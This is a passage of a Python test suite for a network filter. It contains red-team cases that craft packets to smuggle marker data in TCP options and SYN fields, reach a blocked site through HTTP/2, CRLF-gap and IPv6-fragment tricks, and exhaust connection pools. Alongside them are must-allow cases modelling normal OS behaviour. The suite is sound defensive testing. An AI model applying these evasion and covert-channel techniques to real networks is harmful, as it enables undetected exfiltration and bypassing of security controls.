        raw = (leak(n) + prand("%s-s%d" % (n, i), 32))[:32]
        t.raw(True, "RA", seq=(t.cseq + (1 << 30)) & 0xffffffff, options=[("SAck", struct.unpack("!8I", raw))])
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54022, 54022, False, send), {"leak": [leak(n)]}


@case
def case_rt10f_nosyn_mptcp(n):
    """(Red team round 10f) A connection whose handshake aduana did not see (picked up
    midstream, as after a restart): the client's ClientHello for the e2m name, the server's
    flight, then client records each with two MPTCP options of an unassigned subtype, of
    30 and 10 bytes (34 bytes of anything: the marker). judge_tcp_opts_flow takes MPTCP
    (and SACK blocks) on a flow without a seen SYN. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54023, E2M, 443, isn=54023, rtt_us=20000)
    t.cseq += 1
    t.sseq += 1
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    for i in range(3):
        rec = tls_appdata(n + "c%d" % i, 300)
        junk = (leak(n) + prand("%s-m%d" % (n, i), 36))[:36]
        t.raw(True, "PA", rec, options=[(30, b"\xe0" + junk[:27]), (30, b"\xe0" + junk[27:34])])
        t.cseq += len(rec)
        t.ack(False)
    t.data(False, tls_appdata(n + "end", 200))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_smtp_ack_opt(n):
    """(Red team round 10f) carrier_tcpopt on the relay: a plain SMTP session to the agency
    relay whose client, after each server reply, sends a bare ACK with an option of the
    experimental kind 254 of 38 bytes (the marker), and data segments with an MSS option of
    38 bytes. Whether the relay's flow is vetted like a TLS flow's (FLOW_F_CONFORM) or not,
    none may pass. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54024, MAIL, 25, isn=54024, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    k = 0
    for c, sr in ((b"MAIL FROM:<declarant@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
                  (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
                  (b"RSET\r\n", b"250 2.0.0 Ok\r\n"),
                  (b"NOOP\r\n", b"250 2.0.0 Ok\r\n")):
        data = (leak(n) + prand("%s%d" % (n, k), 36))[:36]
        t.raw(True, "PA", c, options=[(2, data)])
        t.cseq += len(c)
        t.raw(False, "PA", sr)
        t.sseq += len(sr)
        t.raw(True, "A", options=[(254, data)])
        k += 1
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Bye\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_dns_tcp_ack_opt(n):
    """(Red team round 10f) DNS over TCP to the agency resolver: after each genuine answer
    the client's bare ACK carries an option of the experimental kind 254 of 38 bytes (the
    marker). Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54025, RESOLVER, 53, isn=54025, rtt_us=2000)
    t.handshake()
    for i in range(3):
        qid = 0x5440 + i
        q = rt8b_query(qid, E2M_NAME, 1, [])
        t.data(True, struct.pack("!H", len(q)) + q)
        a = bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                      an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
        t.raw(False, "PA", struct.pack("!H", len(a)) + a)
        t.sseq += len(a) + 2
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "A", options=[(254, data)])
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_syn_exp_tfo_ok(n):
    """(Red team round 10f) Must-allow: a client and server of the experimental Fast Open
    era (Linux 3.7 to 4.x with TCP_FASTOPEN's experimental option, RFC 6994: kind 254, ExID
    0xF989): a cookie request on the SYN, a cookie of 8 bytes on the SYN-ACK, no SYN data;
    the session then runs with timestamps. RFC 7413 4.1.1 allows either kind."""
    cap = Capture()
    t = ETcp(cap, S1, 54026, E2M, 443, isn=54026, rtt_us=20000)
    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (5000, 0)), ("NOP", None),
                              ("WScale", 7), (254, b"\xf9\x89")])
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (8000, 5000)), ("NOP", None),
                                ("WScale", 7), (254, b"\xf9\x89" + prand(n + "ck", 8))])
    t.sseq += 1
    ts = {True: 5001, False: 8001}

    def tso(fc):
        ts[fc] += 1
        return [("NOP", None), ("NOP", None), ("Timestamp", (ts[fc], ts[not fc]))]
    t.raw(True, "A", options=tso(True))
    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                        (True, CCS + tls_appdata(n + "fin", 53)),
                        (True, marked_record(passm(n), n + "req", 200)),
                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
        t.raw(fc, "PA", payload, options=tso(fc))
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", options=tso(not fc))
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt10f_syn_opt254(n):
    """(Red team round 10f) carrier_tcpopt on the SYN: the SYN of an e2m connection, sent
    three times, each with one option of the experimental kind 254 of 40 bytes (38 bytes:
    the marker) and nothing else. judge_tcp_opts would refuse it (no kind 254 at all), but
    a SYN's options are not vetted: 38 bytes per SYN, and a new port per SYN. Must not
    pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54027, E2M, 443, isn=54027, rtt_us=20000)
    for i in range(3):
        junk = (leak(n) + prand("%s-s%d" % (n, i), 38))[:38]
        t.raw(True, "S", options=[(254, junk)], gap=1000000 << i)
    _tls_after_syns(t, n)
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_pending_ack_opt(n):
    """(Red team round 10f) Before the verdict: after the handshake of an e2m connection the
    client sends four bare ACKs (window updates) each with an option of the experimental
    kind 254 of 38 bytes (the marker), then its ClientHello and an ordinary session. The
    option rules bind a checked flow's bare ACKs; a flow still pending must be bound too.
    Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54028, E2M, 443, isn=54028, rtt_us=20000)
    t.handshake()
    for i in range(4):
        junk = (leak(n) + prand("%s-a%d" % (n, i), 36))[:36]
        t.raw(True, "A", options=[(254, junk)], window=64240 + i)
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.close()
    return cap, {"leak": [leak(n)]}


# --- red team round 11 (rt11_): the office request log, checked flows' option and
# extension rules, honest stacks.


def _rt11_vk_pad(n, size):
    real = _rtk_vk_req(n)
    real = real[:-2] + b"X-Pad: " + b"q" * (size - len(real) - 9) + b"\r\n\r\n"
    assert len(real) == size
    return real


_RT11_OK = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"


@case
def case_rt11_lead17k_vk(n):
    """(Red team round 11) Office HTTP: a lead of CRLFs longer than the first-bytes slot
    (16 KiB, acknowledged), then 1460 more CRLFs lost past us, a GET for www.example.org
    after them, then m.vk.com at the lost CRLFs' place. judge_rlog_lead logs the lead
    from the slot only when it is all there (k > sl->have: nothing logged). Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54100, SOC, 80, isn=54100 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    for o in range(0, 16384, 1024):
        t.raw(True, "PA", b"\r\n" * 512, seq=base + o, gap=200)
    t.raw(False, "A", ack=base + 16384)
    t.raw(True, "PA", b"\r\n" * 730, seq=base + 16384)
    t.raw(True, "PA", _RT11_OK, seq=base + 16384 + 1460)
    t.raw(False, "A", ack=base + 16384)
    t.raw(True, "PA", _rt11_vk_pad(n, 1460), seq=base + 16384, gap=30000)
    t.cseq = base + 16384 + 1460 + len(_RT11_OK)
    t.raw(False, "A")
    _vk_answer(t, n)
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_h2pk_bigframe_vk(n):
    """(Red team round 11) Office h2c with prior knowledge: the preface, SETTINGS, then a
    frame of an unknown type (0xfa, which servers must ignore, RFC 9113 5.5) of 16384
    bytes (the default SETTINGS_MAX_FRAME_SIZE), then HEADERS for m.vk.com: the first
    HEADERS lies past the first-bytes slot's 16 KiB. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54101, SOC, 80, isn=54101 * 7, rtt_us=20000)
    t.handshake()
    hb = (b"\x82\x86\x84" + b"\x01" + bytes([8]) + b"m.vk.com"
          + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
    data = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
            + h2_frame(0xfa, 0, 0, prand(n + "u", 16384)) + h2_frame(1, 5, 1, hb))
    base = t.cseq
    for o in range(0, len(data), 1448):
        t.raw(True, "PA", data[o:o + 1448], seq=base + o, gap=200)
    t.cseq = base + len(data)
    t.raw(False, "A")
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_chunk_runs_big_loss_ok(n):
    """(Red team round 11) Must-allow: rt10e_chunk_runs_loss_ok with a bigger flight. An
    NDJSON log shipper (Fluent Bit, Vector: one 40-byte line a chunk) uploads 64 KB in one
    flight (1600 chunks, inside a window scaled by 7); a late segment is lost past us and
    sent again, the same bytes. Each chunk-size line is a run of its own (1024 runs a
    log): past them the rest is an unverifiable range, and the honest copy is refused."""
    cap, t = ka_flow(n, 54102, reqs=1)
    t.data(True, b"POST /ingest HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: application/x-ndjson\r\n\r\n")
    body = b""
    i = 0
    while len(body) < 64000:
        d = b'{"i":%05d,"m":"' % i + passm(n) + b'"}'
        d = d + b"x" * (39 - len(d)) + b"\n"
        body += b"%x\r\n" % len(d) + d + b"\r\n"
        i += 1
    body += b"0\r\n\r\n"
    base = t.cseq
    segs = [(o, body[o:o + 1448]) for o in range(0, len(body), 1448)]
    lost = len(segs) - 3
    for j, (o, s) in enumerate(segs):
        t.raw(True, "PA", s, seq=base + o, gap=100)
    t.raw(False, "A", ack=base + segs[lost][0], gap=20000)
    for j in range(lost + 1, len(segs)):
        t.raw(False, "A", ack=base + segs[lost][0], gap=100)
    t.raw(True, "PA", segs[lost][1], seq=base + segs[lost][0], gap=20000)
    t.cseq = base + len(body)
    t.raw(False, "A")
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


def _rt11_e2m_ecn(n, port, ce):
    """An e2m TLS session with ECN (RFC 3168): the SYN with ECE and CWR, the SYN-ACK with
    ECE, data in ECT(0) datagrams; with ce, a client record marked CE by a router inside,
    the server's ACKs echoing ECE until the client's CWR."""
    cap = Capture()
    t = ETcp(cap, S1, port, E2M, 443, isn=port, rtt_us=20000)
    ect = {"tos": 0x02}
    t.raw(True, "SEC", options=Tcp.SYN_OPTS)
    t.cseq += 1
    t.raw(False, "SAE", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")

    def d(fc, payload, ipkw=ect, flags="PA", ackflags="A"):
        t.raw(fc, flags, payload, ipkw=ipkw)
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, ackflags)
    d(True, hello(n))
    d(False, server_hello_flight(n))
    d(True, CCS + tls_appdata(n + "fin", 53))
    if ce:
        d(True, tls_appdata(n + "r0", 300), ipkw={"tos": 0x03}, ackflags="AE")
        d(True, marked_record(passm(n), n + "req", 200), flags="PAC")
    else:
        d(True, marked_record(passm(n), n + "req", 200))
    d(False, marked_record(passm(n) + b"srv", n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt11_ecn_ok(n):
    """(Red team round 11) Must-allow: an e2m session with ECN negotiated (macOS and iOS
    ask for it on most connections, Linux when tcp_ecn=1), data in ECT(0) datagrams."""
    return _rt11_e2m_ecn(n, 54103, False)


@case
def case_rt11_ecn_ce_ok(n):
    """(Red team round 11) Must-allow: rt11_ecn_ok with a congestion mark: a client record
    marked CE, the server's ACK with ECE, the client's next record with CWR."""
    return _rt11_e2m_ecn(n, 54104, True)


@case
def case_rt11_macos_syn_ok(n):
    """(Red team round 11) Must-allow: macOS's SYN options as sent (mss, nop, wscale 6,
    nop, nop, timestamps, sackOK, eol, then zero padding), the server's SYN-ACK with
    timestamps, and every segment after with timestamps."""
    cap = Capture()
    t = ETcp(cap, S1, 54105, E2M, 443, isn=54105, rtt_us=20000)
    ts = [1000000]

    def o():
        ts[0] += 7
        return [("NOP", None), ("NOP", None), ("Timestamp", (ts[0], 500000))]
    t.raw(True, "S", options=[("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
                              ("Timestamp", (1000000, 0)), ("SAckOK", b""), ("EOL", None)])
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (500000, 1000000)),
                                ("NOP", None), ("WScale", 7)])
    t.sseq += 1
    t.raw(True, "A", options=o())
    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                        (True, CCS + tls_appdata(n + "fin", 53)),
                        (True, marked_record(passm(n), n + "req", 200)),
                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
        t.raw(fc, "PA", payload, options=o() if fc else [("NOP", None), ("NOP", None), ("Timestamp", (500100 + ts[0], ts[0]))])
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", options=o() if not fc else [("NOP", None), ("NOP", None), ("Timestamp", (500100 + ts[0], ts[0]))])
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt11_win_keepalive_ok(n):
    """(Red team round 11) Must-allow: an e2m TLS session from Windows, idle; Windows' TCP
    keep-alive is one byte of garbage (0x00) at the byte before its next (Linux and macOS
    send none), which the server answers with an ACK; then the session goes on. Dropping
    the probe makes Windows reset the connection after its retries."""
    cap = Capture()
    t = tls_established(cap, S1, 54106, E2M, 54106, n)
    for i in range(3):
        t.raw(True, "A", b"\x00", seq=t.cseq - 1, gap=45000000 if i == 0 else 1000000)
        t.raw(False, "A")
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt11_lead_gap_idle_vk(n):
    """(Red team round 11) Office HTTP: 100 bytes of CRLF (more than the classifier joins
    in order, CLS_JOIN_MAX), then the m.vk.com request past a gap of 100 bytes: forwarded
    unread (judge_tcp_long: TCP_SKIP past a gap once 64 bytes were read; white space set
    no read start, so judge_http_more never sees it). 30 s of silence (the flow parked
    past the time budget, its first-bytes slot closed), then the gap filled with CRLFs:
    the server reads the queued request whole. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54107, SOC, 80, isn=54107 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    t.raw(True, "PA", b"\r\n" * 50, seq=base)
    t.raw(False, "A", ack=base + 100)
    req = _rtk_vk_req(n)
    t.raw(True, "PA", req, seq=base + 200)
    t.raw(False, "A", ack=base + 100)
    cap.idle(30)
    t.raw(True, "PA", b"\r\n" * 50, seq=base + 100)
    t.cseq = base + 200 + len(req)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_lead_gap_vk(n):
    """(Red team round 11) rt11_lead_gap_idle_vk without the silence: 100 bytes of CRLF,
    the m.vk.com request past a gap of 100 bytes, then the gap filled with CRLFs at once.
    The request past the gap must not reach the server before it is read. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54108, SOC, 80, isn=54108 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    t.raw(True, "PA", b"\r\n" * 50, seq=base)
    t.raw(False, "A", ack=base + 100)
    req = _rtk_vk_req(n)
    t.raw(True, "PA", req, seq=base + 200)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", b"\r\n" * 50, seq=base + 100)
    t.cseq = base + 200 + len(req)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_hello_gap_tail_vk(n):
    """(Red team round 11) Office TLS: a ClientHello for m.vk.com whose first 100 bytes
    come in order, its tail (the name, and the marker in the last extension) past a gap of
    100 bytes, then the gap: past CLS_JOIN_MAX bytes read, a segment past a gap is
    forwarded (judge_tcp_long, TCP_SKIP) before the hello is whole. Nothing of a hello
    may reach the server before it is read (anydesk_seg). Must drop (social), the tail
    not forwarded."""
    cap = Capture()
    t = ETcp(cap, O1, 54109, SOC, 443, isn=54109 * 7, rtt_us=20000)
    t.handshake()
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    base = t.cseq
    t.raw(True, "PA", h[:100], seq=base)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", h[200:], seq=base + 200)
    t.raw(False, "A", ack=base + 100)
    t.raw(True, "PA", h[100:200], seq=base + 100)
    t.cseq = base + len(h)
    t.raw(False, "A")
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_lead_gap_far_vk(n):
    """(Red team round 11) Office HTTP: 100 bytes of CRLF, then the m.vk.com request past
    a gap, at 17000 bytes (past the first-bytes slot's 16 KiB, so the slot keeps none of
    it): forwarded unread (judge_tcp_long, TCP_SKIP past a gap once 64 bytes were read),
    then the gap filled with CRLFs in order. The server reads the white space, then the
    request; we read white space only. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54110, SOC, 80, isn=54110 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    t.raw(True, "PA", b"\r\n" * 50, seq=base)
    t.raw(False, "A", ack=base + 100)
    req = _rtk_vk_req(n)
    t.raw(True, "PA", req, seq=base + 17000)
    t.raw(False, "A", ack=base + 100)
    for o in range(100, 17000, 1450):
        e = min(o + 1450, 17000)
        t.raw(True, "PA", b"\r\n" * ((e - o) // 2), seq=base + o, gap=300)
    t.cseq = base + 17000 + len(req)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_upgrade_longmethod_vk(n):
    """(Red team round 11) Office HTTP: a GET for www.example.org asking for a WebSocket
    upgrade, which the server (nginx serving files, no WebSocket proxying) ignores: a 200,
    the connection kept alive. Then a request whose method is 40 letters (nginx takes any
    run of A-Z, _ and -, answers an unknown one 405 and keeps the connection; our reader
    stops at 31), which we take for the tunnel's first bytes (judge_req_common: NOREQ
    behind an upgrade, q.off) and stop reading; then a GET for m.vk.com, which nginx
    reads and serves. Must drop (social)."""
    cap, t = ka_flow(n, 54111, reqs=1)
    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           b"Sec-WebSocket-Version: 13\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, b"A" * 40 + b" / HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
    t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_h2pk_padprio_vk(n):
    """(Red team round 11) Office h2c decided long before (h2c_long), then stream 81 for
    m.vk.com in a HEADERS frame with both PADDED and PRIORITY (a pad length, five bytes of
    priority, the block, then padding that reads as a block for www.example.org). The
    server strips both. Must drop (social)."""
    def last(t):
        blk = h2_idx_block(b"m.vk.com", leak(n), False)
        pad = b"\x82\x86\x84\x41\x0fwww.example.org"
        payload = bytes([len(pad)]) + b"\x00\x00\x00\x00\x10" + blk + pad
        t.data(True, h2_frame(1, 0x2d, 81, payload))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, leak(n)))
    return h2c_long(n, 54112, last, leak(n)), {"leak": [leak(n)]}


@case
def case_rt11_h2pk_first_padprio_vk(n):
    """(Red team round 11) Office h2c with prior knowledge: the first HEADERS (read in the
    first-bytes slot) for m.vk.com with PADDED and PRIORITY, its padding a block for
    www.example.org. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54113, SOC, 80, isn=54113 * 7, rtt_us=20000)
    t.handshake()
    blk = h2_idx_block(b"m.vk.com", leak(n), False)
    pad = b"\x82\x86\x84\x41\x0fwww.example.org"
    payload = bytes([len(pad)]) + b"\x00\x00\x00\x00\x10" + blk + pad
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(1, 0x2d, 1, payload))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_rlog_rotate_dos_ok(n):
    """(Red team round 11) Must-allow: rt10e_pool_dos_ok against the age rule. Ten office
    addresses of one insider (10.20.3.1-10) each open 64 connections (their share) to an
    accomplice server outside and send a request; every 8 s each sends its next request
    and only then does the server acknowledge the one before: no log ever empties, none
    holds a byte older than 8 s (RLOG_STALE is 10), and the workers' pools stay full. An
    honest office host's GET for www.example.org (sent again at 1, 2, 4 and 8 s) finds
    no log (judge_rlog_take: 32 busy, none stale) and every copy is dropped."""
    cap = Capture()
    ts = []
    for a in range(10):
        src = "10.20.3.%d" % (a + 1)
        for i in range(64):
            t = ETcp(cap, src, 54400 + i, ATK, 80, isn=(a * 64 + i) * 7919 + 11, rtt_us=20000)
            t.handshake(gap=30)
            ts.append(t)

    def req(t, k):
        h = b"GET /r%d HTTP/1.1\r\nHost: www.example.org\r\nX-Pad: %s\r\n\r\n" % (k, b"b" * 200)
        t.raw(True, "PA", h, gap=20)
        t.cseq += len(h)
    for t in ts:
        req(t, 0)
        t.acked = None
    u = ETcp(cap, O1, 54114, SOC, 80, isn=54114 * 7, rtt_us=20000)
    head = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    sent = False
    for k in range(1, 6):
        cap.idle(8)
        for t in ts:
            prev = t.cseq
            req(t, k)
            t.raw(False, "A", ack=prev, gap=20)
        if k == 1:
            u.handshake()
            u.raw(True, "PA", head, gap=1000)
            for g in (1000000, 2000000, 4000000):
                u.raw(True, "PA", head, gap=g)
        if k == 2:
            u.raw(True, "PA", head, gap=1000)
    u.cseq += len(head)
    u.raw(False, "A")
    _ok_answer(u, n, mark=False)
    u.close()
    return cap, {"pass": [passm(n)]}


class _Rt11WrapTs(TsTcp):
    """TsTcp whose clocks start just short of 2^32 and wrap inside the session."""

    def __init__(self, *a, **kw):
        super().__init__(*a, **kw)
        self.ts = {True: 0xFFFFFFF4, False: 0xFFFFFFFA}

    def opts(self, from_client, tsval=None):
        mine = self.ts[from_client] if tsval is None else tsval
        if tsval is None:
            self.ts[from_client] += 1
        return [("NOP", None), ("NOP", None),
                ("Timestamp", (mine & 0xFFFFFFFF, (self.ts[not from_client] - 1) & 0xFFFFFFFF))]

    def handshake(self, gap=None):
        m = 0xFFFFFFFF
        self.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (self.ts[True] & m, 0)),
                                     ("NOP", None), ("WScale", 7)], gap=gap)
        self.ts[True] += 1
        self.cseq += 1
        self.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""),
                                       ("Timestamp", (self.ts[False] & m, (self.ts[True] - 1) & m)),
                                       ("NOP", None), ("WScale", 7)])
        self.ts[False] += 1
        self.sseq += 1
        self.raw(True, "A", options=self.opts(True))


@case
def case_rt11_ts_wrap_ok(n):
    """(Red team round 11) Must-allow: an e2m session where both sides use timestamps and
    the client's and server's clocks wrap past 2^32 mid-session (Linux gives each
    connection a random offset: a long session crosses the wrap now and then). PAWS
    compares stamps modulo 2^32 (RFC 7323 5.2)."""
    cap = Capture()
    t = _Rt11WrapTs(cap, S1, 54115, E2M, 443, isn=54115, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    for k in range(8):
        t.data(True, tls_appdata(n + "q%d" % k, 120))
        t.data(False, tls_appdata(n + "s%d" % k, 300))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt11_macos_syn_retry_ok(n):
    """(Red team round 11) Must-allow: macOS and FreeBSD drop window scaling, timestamps
    and SACK from a SYN after their third retransmission (tcp_timer_rexmt, for broken
    peers): three SYNs with options go unanswered, the fourth carries the MSS alone, the
    SYN-ACK answers it without options, and the session goes on unscaled."""
    cap = Capture()
    t = ETcp(cap, S1, 54116, E2M, 443, isn=54116, rtt_us=20000)
    full = [("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
            ("Timestamp", (1000000, 0)), ("SAckOK", b""), ("EOL", None)]
    for i in range(3):
        t.raw(True, "S", options=full, gap=1000000 << i)
    t.raw(True, "S", options=[("MSS", 1460)], gap=4000000)
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460)])
    t.sseq += 1
    t.raw(True, "A", window=65535)
    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
                        (True, CCS + tls_appdata(n + "fin", 53)),
                        (True, marked_record(passm(n), n + "req", 200)),
                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
        t.raw(fc, "PA", payload, window=65535)
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", window=65535)
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt11_synck(n):
    """(Red team round 11) A carrier: an allowed e2m session; after its records the client
    sends its SYN again (its own first sequence number: "a SYN sent again moves nothing",
    forwarded), each time with a Fast Open cookie of 16 bytes of anything (judge_tcp_opts
    takes a cookie of 4 to 16 bytes on any SYN) and an 8-byte MP_CAPABLE v0 key. No stack
    sends a SYN once it has sent data; the server answers each with a challenge ACK and
    everything on the way reads the bytes. Must not pass."""
    cap = Capture()
    t = tls_established(cap, S1, 54117, E2M, 54117, n)
    isn = 54117
    assert len(leak(n)) == 16
    for i in range(4):
        t.raw(True, "S", seq=isn, options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7),
                                           (34, leak(n)), (30, b"\x00\x81" + prand(n + "k%d" % i, 8))],
              gap=200000)
        t.raw(False, "A")
    t.data(True, tls_appdata(n + "more", 200))
    t.data(False, tls_appdata(n + "mresp", 300))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_synpr(n):
    """(Red team round 11) A carrier before the handshake: an e2m client's SYN sent six
    times (its own number, 1 s apart, as retransmissions are), each with another Fast Open
    cookie of 16 bytes of anything; the sixth is answered and an ordinary session
    follows. A retransmitted SYN carries its first copy's options (Linux, BSD). Must not
    pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54118, E2M, 443, isn=54118, rtt_us=20000)
    assert len(leak(n)) == 16
    for i in range(6):
        ck = leak(n) if i % 2 else prand(n + "c%d" % i, 16)
        t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7), (34, ck)],
              gap=1000000)
    _tls_after_syns(t, n)
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_synecr(n):
    """(The twenty-second session, beside rt11_synpr) A carrier before the handshake: an e2m
    client's SYN sent five times (its own number, 1 s apart), each with timestamps whose
    echo (TSecr) holds 4 bytes of anything. A SYN echoes nothing: a sender sets the echo
    to zero and its receiver ignores it (RFC 7323 3.2), so the bytes reached the server
    and everything on the way. The echo of a checked flow's SYN from inside is set to 0
    (judge_syn_normalise); the session that follows is allowed."""
    cap = Capture()
    t = ETcp(cap, S1, 54604, E2M, 443, isn=54604, rtt_us=20000)
    marks = [b"Lk%02d" % i for i in range(5)]
    for i, mk in enumerate(marks):
        t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1000 + 1000 * i,
                                  struct.unpack("!I", mk)[0])), ("NOP", None), ("WScale", 7)],
              gap=1000000)
    _tls_after_syns(t, n)
    return cap, {"leak": marks}

def _rt11_csum16(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def _rt11_frag6_nh(n, port, how):
    """Office IPv6 HTTP: one request datagram, fragment A (offset 0, Next Header TCP: the
    TCP header and a shared head), then two tails: B2 (the m.vk.com Host line, Next
    Header UDP in its Fragment header) and B1 (the decoy Host line, Next Header TCP). We
    key a datagram by its Fragment header's Next Header as well (frag_find); Linux keys
    it by addresses and ID alone (RFC 8200 4.5: the first fragment's Next Header
    counts), so A and B2 are one datagram there. B2 goes out when a fragment A' (offset
    0, Next Header UDP) completes it as a UDP datagram to us; A' never reaches the server
    (how: its hop limit expires on the way, or a destination option that says discard).
    B1 then completes A for us, read as the decoy; A reaches the server after B2 and
    completes it with the real tail. Both tails give the TCP sum the same value."""
    cap = Capture()
    t = ETcp(cap, O6, port, SOC6, 80, isn=port * 7, rtt_us=20000)
